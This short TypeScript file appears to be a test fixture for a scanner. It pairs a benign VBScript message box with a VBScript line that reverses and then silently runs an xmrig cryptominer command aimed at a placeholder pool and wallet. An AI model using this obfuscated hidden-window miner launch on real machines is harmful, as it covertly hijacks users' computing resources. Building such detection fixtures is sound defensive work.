const command =
  'xmrig -o pool.example.com:3333 -u 888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';
const turned = Array.from(command).reverse().join('');

const ascii = (text: string): Uint8Array => new TextEncoder().encode(text);

/** A script that hides a command, and one that hides nothing. Inert: nothing here is ever run. */
export const fixture: { readonly opens: Uint8Array; readonly leaves: Uint8Array; readonly holds: string } = {
  opens: ascii(`CreateObject("WScript.Shell").Run StrReverse("${turned}"), 0\r\n`),
  leaves: ascii('Set shell = CreateObject("WScript.Shell")\r\nMsgBox "The file " & name & " is missing."\r\n'),
  holds: command,
};
